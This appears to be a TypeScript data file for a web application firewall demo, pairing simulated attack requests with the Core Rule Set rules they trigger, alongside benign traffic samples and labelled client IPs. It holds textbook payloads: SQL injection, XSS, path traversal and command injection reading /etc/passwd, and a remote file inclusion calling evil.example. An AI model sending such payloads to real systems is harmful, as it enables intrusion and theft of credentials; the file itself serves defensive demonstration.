import type { WafRuleMatch } from '@netloom/domain';

/** An attack a simulated POP sees: what the client sends and what the Core Rule Set (3.3) says of it. */
export interface SimulatedAttack {
  method: string;
  path: string;
  /** The lowest paranoia level at which the CRS matches it. */
  paranoia: 1 | 2;
  rules: Omit<WafRuleMatch, 'severity'>[];
  userAgent: string;
}

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';

/** Requests the demo's attackers send, with the rules the real engine matches for them (ids and messages as CRS 3.3.4 writes them). */
export const SIMULATED_ATTACKS: readonly SimulatedAttack[] = [
  {
    method: 'GET',
    path: "/products?id=1' OR '1'='1",
    paranoia: 1,
    rules: [
      {
        id: 942100,
        message: 'SQL Injection Attack Detected via libinjection',
        data: "Matched Data: s&sos found within ARGS:id: 1' OR '1'='1",
        tags: ['attack-sqli', 'paranoia-level/1'],
      },
    ],
    userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)',
  },
  {
    method: 'GET',
    path: '/search?q=1 UNION SELECT username,password FROM users--',
    paranoia: 1,
    rules: [
      {
        id: 942190,
        message: 'Detects MSSQL code execution and information gathering attempts',
        data: 'Matched Data: UNION SELECT found within ARGS:q: 1 UNION SELECT username,password FROM users--',
        tags: ['attack-sqli'],
      },
    ],
    userAgent: BROWSER,
  },
  {
    method: 'GET',
    path: '/search?q=<script>alert(document.cookie)</script>',
    paranoia: 1,
    rules: [
      {
        id: 941100,
        message: 'XSS Attack Detected via libinjection',
        data: 'Matched Data: XSS data found within ARGS:q: <script>alert(document.cookie)</script>',
        tags: ['attack-xss'],
      },
    ],
    userAgent: BROWSER,
  },
  {
    method: 'POST',
    path: '/comments',
    paranoia: 1,
    rules: [
      {
        id: 941160,
        message: 'NoScript XSS InjectionChecker: HTML Injection',
        data: 'Matched Data: <img src=x onerror found within ARGS:body: <img src=x onerror=alert(1)>',
        tags: ['attack-xss'],
      },
    ],
    userAgent: BROWSER,
  },
  {
    method: 'GET',
    path: '/download?file=../../../../etc/passwd',
    paranoia: 1,
    rules: [
      { id: 930100, message: 'Path Traversal Attack (/../)', data: 'Matched Data: ../ found within ARGS:file: ../../../../etc/passwd', tags: ['attack-lfi'] },
      { id: 930120, message: 'OS File Access Attempt', data: 'Matched Data: etc/passwd found within ARGS:file: ../../../../etc/passwd', tags: ['attack-lfi'] },
    ],
    userAgent: 'curl/8.4.0',
  },
  {
    method: 'GET',
    path: '/ping?host=127.0.0.1;cat /etc/passwd',
    paranoia: 1,
    rules: [
      {
        id: 932100,
        message: 'Remote Command Execution: Unix Command Injection',
        data: 'Matched Data: ;cat found within ARGS:host: 127.0.0.1;cat /etc/passwd',
        tags: ['attack-rce'],
      },
    ],
    userAgent: 'python-requests/2.31.0',
  },
  {
    method: 'GET',
    path: '/index.php?page=http://evil.example/shell.txt?',
    paranoia: 1,
    rules: [
      {
        id: 931120,
        message: 'Possible Remote File Inclusion (RFI) Attack: URL Payload Used w/Trailing Question Mark Character (?)',
        data: 'Matched Data: http://evil.example/shell.txt? found within ARGS:page',
        tags: ['attack-rfi'],
      },
    ],
    userAgent: BROWSER,
  },
  {
    method: 'GET',
    path: '/.env',
    paranoia: 1,
    rules: [{ id: 930130, message: 'Restricted File Access Attempt', data: 'Matched Data: /.env found within REQUEST_FILENAME: /.env', tags: ['attack-lfi'] }],
    userAgent: 'Mozilla/5.0 zgrab/0.x',
  },
  {
    method: 'GET',
    path: '/wp-login.php',
    paranoia: 1,
    rules: [
      {
        id: 913100,
        message: 'Found User-Agent associated with security scanner',
        data: 'Matched Data: nikto found within REQUEST_HEADERS:User-Agent: Mozilla/5.00 (Nikto/2.5.0)',
        tags: ['attack-reputation-scanner'],
      },
    ],
    userAgent: 'Mozilla/5.00 (Nikto/2.5.0)',
  },
  {
    method: 'GET',
    path: '/',
    paranoia: 1,
    rules: [
      {
        id: 920350,
        message: 'Host header is a numeric IP address',
        data: 'Matched Data: 203.0.113.10 found within REQUEST_HEADERS:Host: 203.0.113.10',
        tags: ['attack-protocol'],
      },
    ],
    userAgent: 'Mozilla/5.0 (compatible; CensysInspect/1.1)',
  },
  {
    method: 'POST',
    path: '/api/login',
    paranoia: 1,
    rules: [
      {
        id: 942100,
        message: 'SQL Injection Attack Detected via libinjection',
        data: "Matched Data: s&1c found within ARGS:json.password: ' or 1=1 --",
        tags: ['attack-sqli'],
      },
    ],
    userAgent: 'python-requests/2.31.0',
  },
  {
    method: 'GET',
    path: "/products?sort=name'",
    paranoia: 2,
    rules: [
      {
        id: 942432,
        message: 'Restricted SQL Character Anomaly Detection (args): # of special characters exceeded (2)',
        data: "Matched Data: ' found within ARGS:sort: name'",
        tags: ['attack-sqli', 'paranoia-level/2'],
      },
    ],
    userAgent: BROWSER,
  },
];

/** Where the demo's clients come from: benign visitors and the attackers, with the country their address is registered in. */
export const SIMULATED_CLIENTS = {
  visitors: [
    { ip: '81.2.69.160', country: 'GB' },
    { ip: '93.184.216.34', country: 'US' },
    { ip: '49.36.12.77', country: 'IN' },
    { ip: '151.101.1.69', country: 'US' },
    { ip: '85.214.132.117', country: 'DE' },
    { ip: '203.0.178.91', country: 'AU' },
    { ip: '177.67.82.9', country: 'BR' },
    { ip: '122.160.9.44', country: 'IN' },
  ],
  attackers: [
    { ip: '45.155.205.233', country: 'RU' },
    { ip: '61.177.172.136', country: 'CN' },
    { ip: '185.220.101.34', country: 'DE' },
    { ip: '89.248.165.52', country: 'NL' },
    { ip: '162.142.125.221', country: 'US' },
    { ip: '193.32.162.69', country: 'RO' },
  ],
} as const;

export const BENIGN_PATHS = [
  '/',
  '/products',
  '/products/42',
  '/cart',
  '/search?q=running+shoes',
  '/api/orders/1207',
  '/static/app.js',
  '/login',
  '/about',
  "/search?q=o'neill+jacket",
];
export const BENIGN_AGENTS = [
  BROWSER,
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148',
];
